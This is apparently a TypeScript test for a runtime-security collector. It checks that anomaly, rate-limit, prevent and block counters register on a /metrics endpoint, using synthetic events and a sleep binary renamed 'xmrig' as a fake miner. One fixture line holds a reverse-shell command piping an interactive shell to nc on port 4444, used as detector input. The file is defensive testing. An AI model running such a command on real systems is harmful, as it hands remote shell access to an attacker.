/**
 * Every counter of the models stage moves on the real collector's /metrics:
 * the collector runs in-process with a source that hands it events built the
 * way the eBPF source builds them, and /metrics is scraped over HTTP.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { copyFileSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { CasefileEvent, NewEvent } from '@casefile/schema';
import { commandsDir, modelsDir, writeCommand } from '../src/models/store';
import { createLogger } from '../src/observability/logger';
import { Collector } from '../src/pipeline/collector';
import type { Emit, Source } from '../src/pipeline/types';
import { testConfig, until } from './helpers';
import { CONTAINER, execEvent, IMAGE, tcpEvent } from './models-fixtures';

/** Hands the collector whatever the test pushes. */
class PushSource implements Source {
  readonly name = 'synthetic' as const;
  private emit?: Emit;
  async available() {
    return { ok: true as const };
  }
  async start(emit: Emit) {
    this.emit = emit;
  }
  async stop() {}
  push(...events: CasefileEvent[]) {
    for (const e of events) this.emit!(e as NewEvent);
  }
}

/** One metric's value from /metrics: the sample whose labels include `labels` (summed). */
async function metric(address: string, name: string, labels: Record<string, string> = {}): Promise<number> {
  const text = await (await fetch(`http://${address}/metrics`)).text();
  let sum = 0;
  let found = false;
  for (const line of text.split('\n')) {
    const m = /^([a-zA-Z_:][\w:]*)(\{[^}]*\})?\s+(\S+)$/.exec(line);
    if (!m || m[1] !== name) continue;
    if (Object.entries(labels).every(([k, v]) => (m[2] ?? '').includes(`${k}="${v}"`))) {
      sum += Number(m[3]);
      found = true;
    }
  }
  assert.ok(found, `${name} ${JSON.stringify(labels)} is on /metrics`);
  return sum;
}

const LEARN_MS = 1_500;
/** A pid no process can have (above pid_max). */
const NO_PID = 4_999_998;

test('every models-stage counter is on /metrics and moves', { timeout: 60_000 }, async () => {
  const dir = mkdtempSync(join(tmpdir(), 'casefile-models-metrics-'));
  const config = testConfig([
    '--learning-period',
    `${LEARN_MS}ms`,
    '--policy',
    join(dir, 'policy.yaml'),
    '--host-name',
    'node-1',
  ]);
  writeFileSync(
    join(dir, 'policy.yaml'),
    `rateLimit: { burst: 2, every: 1h }
actions: { crypto_miner: prevent, reverse_shell: block }
scopes:
  - match: { containerName: quiet }
    disable: [R0001]
`
  );
  // A model file that cannot be read, and an admin command that cannot: both skipped, both counted.
  mkdirSync(commandsDir(config.stateDir), { recursive: true });
  writeFileSync(join(modelsDir(config.stateDir), 'bad.json'), '{ not json');
  const source = new PushSource();
  const collector = new Collector(config, createLogger('silent'), { sources: [source] });
  const miner = join(dir, 'xmrig');
  copyFileSync('/bin/sleep', miner);
  const child = spawn(miner, ['30'], { stdio: 'ignore' });
  try {
    await collector.start();
    const at = collector.address!;
    const m = (name: string, labels?: Record<string, string>) => metric(at, name, labels);
    writeFileSync(join(commandsDir(config.stateDir), '0-bad.json'), '"reset everything"');
    await until(
      'unreadable command counted',
      async () => (await m('casefile_models_persist_errors_total', { op: 'command' })) === 1,
      5_000,
      100
    );
    assert.equal(await m('casefile_models_persist_errors_total', { op: 'load' }), 1);
    assert.equal(await m('casefile_models_behaviours_learned_total'), 0);

    // Learning: one behaviour of each kind.
    const t = () => Date.now();
    source.push(
      execEvent(t(), ['/bin/sh', '-c', 'sleep 1'], { pid: NO_PID }),
      tcpEvent(t(), 'listen', '0.0.0.0', 8080, { pid: NO_PID }),
      tcpEvent(t(), 'connect', '10.0.0.7', 5432, { pid: NO_PID })
    );
    for (const kind of ['process', 'listen', 'connect'])
      assert.equal(await m('casefile_models_behaviours_learned_total', { kind }), 1, kind);
    assert.equal(await m('casefile_models', { state: 'learning' }), 1);
    assert.ok((await m('casefile_models_state_events_total')) >= 1, 'model.state emitted for the new model');
    assert.equal(await m('casefile_models_containers'), 1);

    // /proc is read once for a process that is gone, however many execs it shows.
    source.push(execEvent(t(), ['/bin/sleep', '1'], { pid: NO_PID }));
    source.push(execEvent(t(), ['/bin/true'], { pid: NO_PID }));
    assert.equal(await m('casefile_models_proc_reads_total', { result: 'gone' }), 1);
    assert.ok((await m('casefile_models_processes')) >= 1);

    // A new container's first event waits for its image, then is evaluated with it.
    const bare = { containerId: 'd'.repeat(64), host: 'node-1' };
    source.push(execEvent(t(), ['/bin/ls'], { pid: NO_PID - 1, scope: bare }));
    assert.equal(await m('casefile_models_image_wait_containers'), 1);
    assert.equal(await m('casefile_models_image_wait_events_total', { outcome: 'held' }), 1);
    source.push(execEvent(t(), ['/bin/ls'], { pid: NO_PID - 2, scope: { ...bare, ...IMAGE } }));
    assert.equal(await m('casefile_models_image_wait_events_total', { outcome: 'released' }), 1);
    assert.equal(await m('casefile_models_image_wait_containers'), 0);
    // Another one never gets an image: after the wait its event is evaluated as it is.
    source.push(execEvent(t(), ['/bin/ls'], { pid: NO_PID - 3, scope: { containerId: 'e'.repeat(64) } }));
    await until(
      'image wait expired',
      async () => (await m('casefile_models_image_wait_events_total', { outcome: 'expired' })) === 1,
      10_000,
      200
    );

    // Admin command.
    writeCommand(config.stateDir, { op: 'extend', model: IMAGE.imageDigest, durationMs: 1 });
    await until(
      'extend applied',
      async () => (await m('casefile_models_commands_total', { op: 'extend' })) === 1,
      5_000,
      100
    );

    await new Promise((r) => setTimeout(r, LEARN_MS + 100));
    // Active now: five unexpected processes, a burst of two audits, three held back.
    for (let i = 0; i < 5; i++) source.push(execEvent(t(), [`/bin/x${i}`], { pid: NO_PID }));
    assert.equal(await m('casefile_models_audits_total', { action: 'alert' }), 2);
    assert.equal(await m('casefile_models_audits_suppressed_total', { reason: 'rate_limit' }), 3);
    assert.equal(await m('casefile_models_audits_suppressed_pending'), 3);
    assert.equal(await m('casefile_models_audits_suppressed_unreported_total'), 0);
    assert.equal(
      await m('casefile_models', { state: 'active' }),
      2,
      "the image's model and the imageless container's"
    );
    // The policy disables R0001 for the container named quiet.
    source.push(execEvent(t(), ['/bin/y'], { pid: NO_PID, scope: { ...CONTAINER, containerName: 'quiet' } }));
    assert.equal(await m('casefile_models_audits_suppressed_total', { reason: 'policy' }), 1);

    // prevent kills a real miner (ok) and cannot kill a gone one (error); block has no runtime to ask (error).
    source.push(execEvent(t(), [miner, '30'], { pid: child.pid, scope: { host: 'node-1' } }));
    source.push(execEvent(t(), [join(dir, 'xmrig'), '31'], { pid: NO_PID - 4, scope: { host: 'node-1' } }));
    assert.equal(await m('casefile_models_actions_total', { action: 'prevent', result: 'ok' }), 1);
    assert.equal(await m('casefile_models_actions_total', { action: 'prevent', result: 'error' }), 1);
    assert.equal(await m('casefile_models_audits_total', { action: 'prevent' }), 2);
    assert.equal(await m('casefile_models_proc_reads_total', { result: 'live' }), 1, 'the live miner');
    source.push(
      execEvent(t(), ['/bin/sh', '-c', 'sh -i 2>&1 | nc 10.0.0.9 4444'], {
        pid: NO_PID - 5,
        scope: CONTAINER,
      })
    );
    await until(
      'failed block counted',
      async () => (await m('casefile_models_actions_total', { action: 'block', result: 'error' })) === 1,
      5_000,
      100
    );
    assert.equal(await m('casefile_models_actions_total', { action: 'block', result: 'ok' }), 0);

    // Persistence fails once the models directory is gone (a file in its place): counted, retried.
    rmSync(modelsDir(config.stateDir), { recursive: true, force: true });
    writeFileSync(modelsDir(config.stateDir), 'not a directory');
    source.push(
      execEvent(t(), ['/bin/ls'], {
        pid: NO_PID - 6,
        scope: { containerId: 'f'.repeat(64), imageName: 'new:1' },
      })
    );
    await until(
      'save error counted',
      async () => (await m('casefile_models_persist_errors_total', { op: 'save' })) >= 1,
      5_000,
      100
    );
  } finally {
    child.kill('SIGKILL');
    await collector.stop();
    rmSync(dir, { recursive: true, force: true });
    rmSync(config.stateDir, { recursive: true, force: true });
  }
});
